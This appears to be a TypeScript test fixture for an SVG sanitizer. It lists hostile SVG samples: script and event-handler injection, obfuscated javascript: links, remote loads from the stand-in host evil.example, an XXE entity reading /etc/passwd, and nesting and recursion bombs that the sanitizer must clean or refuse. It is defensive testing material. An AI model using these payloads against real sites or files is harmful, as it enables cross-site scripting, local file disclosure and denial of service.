const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const kept = '<rect width="4" height="4" fill="#0a0"/>'
const inside = (content: string) => `${open} width="9" height="9">${content}${kept}</svg>`

/** What somebody might hide in a picture; every one raises `alarm`, or asks evil.example, if it can. */
export const hostileSvg: Readonly<Record<string, string>> = {
  'a script': inside('<script>alarm++</script>'),
  'a script in another case and namespace': inside(
    '<s:script xmlns:s="http://www.w3.org/2000/svg">alarm++</s:script><SCRIPT>alarm++</SCRIPT>',
  ),
  'a script of HTML': inside('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alarm++</h:script>'),
  'a script from elsewhere': inside('<script xlink:href="https://evil.example/x.js"/>'),
  'handlers of events': `${open} width="9" height="9" onload="alarm++">${kept.replace('/>', ' onclick="alarm++" OnMouseOver="alarm++"/>')}</svg>`,
  'a link that runs': inside('<a href="javascript:alarm++"><text>x</text></a>'),
  'a link that runs, in disguise': inside(
    '<a xlink:href="&#x6A;ava&#10;script:alarm++"><text>x</text></a><use href="data:image/svg+xml,&lt;svg id=&quot;x&quot; onload=&quot;alarm++&quot;/&gt;#x"/>',
  ),
  'a foreign object': inside(
    '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alarm++"/><img src="x" onerror="alarm++"/></body></foreignObject>',
  ),
  'an animation that writes a link': inside(
    '<a id="a"><set attributeName="href" to="javascript:alarm++"/><animate attributeName="href" values="javascript:alarm++"/><text>x</text></a>',
  ),
  'styles that load': inside(
    '<style>@import url(https://evil.example/x.css);rect{fill:url(https://evil.example/x.svg#p)}</style>',
  ),
  'styles that escape': inside(
    '<style>rect{background:u\\72l(https://evil.example/x)}&lt;/style&gt;&lt;script&gt;alarm++&lt;/script&gt;</style><style><![CDATA[</style><script>alarm++</script>]]></style>',
  ),
  'styles behind comments': inside(
    '<style>rect{fill:url(/**/https://evil.example/x)}</style><rect style="fill:url( &quot;//evil.example/x&quot; )"/>',
  ),
  'attributes that load': inside(
    '<rect fill="url(https://evil.example/x#p)" filter="url(//evil.example/f#f)" mask="url(evil#m)"/><image href="https://evil.example/x.png"/><image href="file:///etc/passwd"/><feImage href="https://evil.example/x"/>',
  ),
  'a picture in a picture': inside(
    '<image href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxhcm0rKyIvPg=="/>',
  ),
  'instructions to programs': `<?xml-stylesheet href="https://evil.example/x.css"?><!-- <script>alarm++</script> -->${inside('<?php alarm ?>')}`,
  'a document type': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/svg11.dtd">${inside('')}`,
  'a base and a handler element': inside(
    '<handler xmlns="http://www.w3.org/2001/xml-events" type="x">alarm++</handler><g xml:base="https://evil.example/"><use href="x#y"/></g>',
  ),
}

/** What cannot be cleaned and has to be refused. */
export const refusedSvg: Readonly<Record<string, string>> = {
  'twenty thousand nested elements': inside(`${'<g>'.repeat(20_000)}${'</g>'.repeat(20_000)}`),
  'billions of uses': inside(
    `<defs><g id="a0">${kept}</g>${Array.from({ length: 12 }, (_, i) => `<g id="a${i + 1}">${`<use href="#a${i}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#a12"/>`,
  ),
  'a part that draws itself': inside('<g id="a"><use href="#a"/></g>'),
  'a long chain of parts': inside(
    Array.from({ length: 5000 }, (_, i) => `<g id="a${i + 1}"><use href="#a${i}"/></g>`).join(''),
  ),
  'an entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${inside('<text>&x;</text>')}`,
  'elements that are not closed': `${open}><g>`,
  'HTML in the place of SVG': `<html><svg>${kept}</svg></html>`,
}
